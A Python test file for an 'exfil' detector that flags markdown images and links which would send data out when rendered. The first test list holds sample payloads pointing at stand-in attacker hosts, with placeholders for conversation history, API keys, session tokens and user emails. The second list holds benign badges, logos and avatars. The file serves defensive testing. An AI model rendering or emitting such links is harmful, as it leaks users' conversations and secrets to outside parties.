"""exfil detector: images/links that would carry data out when rendered vs. ordinary images and links."""

from __future__ import annotations

import pytest

from trust import Action, get_detectors, scan

DET = get_detectors(["exfil"])


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/log?data={conversation_history})",
        "![](https://attacker.example/p.png?secret=$API_KEY)",
        "![img](https://collect.example/i.gif?q=[USER_EMAIL])",
        '<img src="https://evil.example/a.png?d={{secret}}">',
        "[click](https://evil.example/?token={session_token})",
        "Visit https://evil.example/c?data={chat_history} right away",
        "![a](https://tracker.example/pixel.png?user=alice&msg=hello)",
        "![p](https://collect.example/p.gif?p=SGVsbG8gd29ybGQ)",  # a one-letter parameter with data in it
    ],
)
def test_caught(text: str) -> None:
    assert any(f.action == Action.REMOVE for f in scan(text, DET).findings)


@pytest.mark.parametrize(
    "text",
    [
        "![CI](https://github.com/org/repo/actions/workflows/ci.yml/badge.svg?branch=main)",
        "![logo](https://example.org/static/logo.png)",
        "See the [docs](https://docs.example.org/install?version=2) for details.",
        "![shield](https://img.shields.io/badge/license-MIT-blue.svg)",
        "Open https://example.org/search?q=python in a browser.",
        # Contributor avatars and cache-busting versions: one-letter parameters holding a size or a number.
        '<a href="https://github.com/alice"><img src="https://avatars.githubusercontent.com/u/1041385?v=4?s=100" '
        'width="100px;" alt="Alice"/></a>',
        "![diagram](https://example.org/img/arch.png?v=3)",
    ],
)
def test_benign_survives(text: str) -> None:
    assert scan(text, DET).findings == ()
